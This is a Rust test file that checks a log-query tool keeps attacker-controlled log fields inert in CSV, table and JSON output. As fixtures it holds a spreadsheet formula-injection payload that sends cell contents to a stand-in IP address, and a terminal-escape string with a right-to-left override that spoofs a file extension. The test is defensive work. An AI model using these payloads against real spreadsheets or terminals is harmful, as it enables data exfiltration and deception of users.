//! What logs say reaches terminals and spreadsheets as text.

use std::fs;

use serde_json::json;

use crate::program::{ingest, run, text};

const FORMULA: &str = "=HYPERLINK(\"http://192.0.2.1/\"&A1)";
const ESCAPES: &str = "\u{1b}[2J\u{9b}31m\u{202e}gpj.exe\u{7f}";

#[test]
fn what_attackers_write_stays_text() {
    let folder = tempfile::tempdir().unwrap();
    let (from, store) = (folder.path().join("bucket"), folder.path().join("store"));
    fs::create_dir(&from).unwrap();
    let record = json!({"eventVersion": "1.08", "eventTime": "2026-01-01T00:00:00Z", "eventName": "A",
        "eventSource": "s3.amazonaws.com", "eventID": "a", "userAgent": FORMULA, "errorMessage": ESCAPES});
    fs::write(from.join("a.json"), record.to_string()).unwrap();
    ingest(&from, &store);
    let query = |sql: &str, more: &[&str]| {
        let ended = run(&[&["query", sql, "--store", text(&store)], more].concat());
        assert_eq!(ended.code, Some(0), "{}", ended.err);
        ended.out
    };
    let sql = "SELECT userAgent, -5 AS n, '-x' AS t FROM $EDS_ID";
    let quoted = FORMULA.replace('"', "\"\"");
    assert_eq!(query(sql, &["--output", "csv"]), format!("userAgent,n,t\n\"{quoted}\",-5,-x\n"));
    let safe = query(sql, &["--output", "csv", "--csv-safe"]);
    assert_eq!(safe, format!("userAgent,n,t\n\"'{quoted}\",-5,'-x\n"));

    let steering = |c: char| c != '\n' && (c.is_control() || c == '\u{202e}');
    for format in ["table", "json", "ndjson"] {
        let out = query("SELECT errorMessage, eventJson FROM $EDS_ID", &["--output", format]);
        assert!(out.contains("gpj.exe") && !out.contains(steering), "{out:?}");
    }
    let row = query("SELECT errorMessage FROM $EDS_ID", &["--output", "ndjson"]);
    assert_eq!(row.parse::<serde_json::Value>().unwrap()["errorMessage"], ESCAPES);
    let error = run(&["query", "SELECT CAST(errorMessage AS integer) FROM $EDS_ID", "--store", text(&store)]);
    assert!(error.code == Some(1) && !error.err.contains(steering), "{:?}", error.err);
}
